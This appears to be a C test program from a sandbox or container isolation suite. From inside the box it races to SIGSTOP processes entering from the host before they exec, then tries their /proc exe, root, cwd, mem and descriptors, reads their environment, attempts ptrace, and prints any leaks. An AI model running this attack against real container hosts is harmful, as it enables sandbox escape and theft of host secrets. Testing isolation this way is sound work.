/*
 * A process in a box that wants what a newcomer brings from the host, in the moment before it executes its command. It
 * stops each new process: whoever has not executed the command by then is held in that moment. At those it tries all that
 * proc(5) and ptrace(2) offer, and prints what it gets.
 *
 * usage: attacker SECONDS COMMAND    COMMAND: the name, in /proc/PID/comm, of who is no prey
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int is_command(int pid, const char *command, char *comm) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 1;
  ssize_t length = read(fd, comm, 31);
  close(fd);
  if (length <= 0) return 1;
  comm[length - 1] = 0;
  return strcmp(comm, command) == 0;
}

static void got(const char *what, int pid, const char *comm, const char *detail) {
  printf("GOT %s of %d (%s): %s\n", what, pid, comm, detail);
}

/* What a descriptor leads to, unless it is the command's by now. */
static void follow(int pid, const char *comm, const char *command, const char *name, int flags) {
  char path[300], self[32], link[300], now[32];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  int fd = open(path, flags);
  if (fd < 0) return;
  snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
  ssize_t length = readlink(self, link, sizeof link - 1);
  link[length < 0 ? 0 : length] = 0;
  if (!is_command(pid, command, now)) got(name, pid, comm, link);
  close(fd);
}

static void read_it(int pid, const char *comm, const char *command, const char *name) {
  char path[64], text[200], now[32];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return;
  ssize_t length = read(fd, text, sizeof text - 1);
  close(fd);
  if (length <= 0) return;
  text[length] = 0;
  if (!is_command(pid, command, now)) got(name, pid, comm, text);
}

/* Waits until it has stopped. Whether it has not executed the command before. */
static int is_held(int pid, const char *command, char *comm) {
  char path[64], text[400];
  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  for (;;) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t length = read(fd, text, sizeof text - 1);
    close(fd);
    if (length <= 0) return 0;
    text[length] = 0;
    char *end = strrchr(text, ')');
    if (end == NULL || strchr("ZX", end[2]) != NULL) return 0;
    if (end[2] == 'T') return !is_command(pid, command, comm);
  }
}

static void attack(int pid, const char *command) {
  char comm[32];
  if (is_held(pid, command, comm)) {
    follow(pid, comm, command, "exe", O_PATH);
    follow(pid, comm, command, "root", O_PATH);
    follow(pid, comm, command, "cwd", O_PATH);
    follow(pid, comm, command, "mem", O_RDWR);
    for (int fd = 3; fd < 40; fd++) {
      char name[16];
      snprintf(name, sizeof name, "fd/%d", fd);
      follow(pid, comm, command, name, O_PATH);
    }
    read_it(pid, comm, command, "environ");
    read_it(pid, comm, command, "maps");
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
      got("ptrace", pid, comm, "seized");
      ptrace(PTRACE_INTERRUPT, pid, 0, 0);
      waitpid(pid, NULL, __WALL);
      ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    printf("HELD %d (%s)\n", pid, comm);
  }
  kill(pid, SIGCONT);
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  setvbuf(stdout, NULL, _IOLBF, 0);
  time_t end = time(NULL) + atoi(argv[1]);
  puts("READY");
  /* Numbers are given in order: the newcomer is the next, or one of those after it if some were missed. */
  for (int last = getpid(); time(NULL) < end;) {
    for (int pid = last + 1; pid < last + 16; pid++) {
      if (kill(pid, SIGSTOP) != 0) continue;
      attack(pid, argv[2]);
      last = pid;
      break;
    }
  }
  puts("END");
  return 0;
}
